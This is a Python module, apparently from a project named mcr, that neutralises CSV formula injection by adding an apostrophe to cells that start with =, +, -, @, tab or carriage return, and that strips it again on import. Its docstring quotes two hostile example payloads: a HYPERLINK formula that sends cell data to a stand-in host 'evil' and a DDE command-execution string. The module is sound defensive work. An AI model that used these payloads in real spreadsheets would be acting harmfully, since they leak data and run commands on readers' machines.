"""CSV cells that a spreadsheet would run as a formula, neutralised (OWASP "CSV Injection").

Excel, LibreOffice and Google Sheets treat a cell that begins with `=`, `+`, `-` or `@` as a
formula (and tab or carriage return can hide such a start), so a customer named
`=HYPERLINK("http://evil/?"&A1,"点我")` or `+cmd|' /C calc'!A0` would run in the reader's
spreadsheet. Every text cell mcr writes to CSV goes through `neutralise`: such a cell gets a
leading apostrophe, which spreadsheets show as text and do not display. The importer reads it
back through `restore`, so `export → import` still changes nothing. XLSX needs none of this: its
cells are typed, and mcr writes these values as text cells.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A CSV cell that cannot start a formula; numbers and other non-text values stay as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(value: Any) -> Any:
    """The inverse of `neutralise` for a cell read from CSV: `'=x` → `=x`; anything else unchanged."""
    if isinstance(value, str) and len(value) > 1 and value[0] == "'" and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
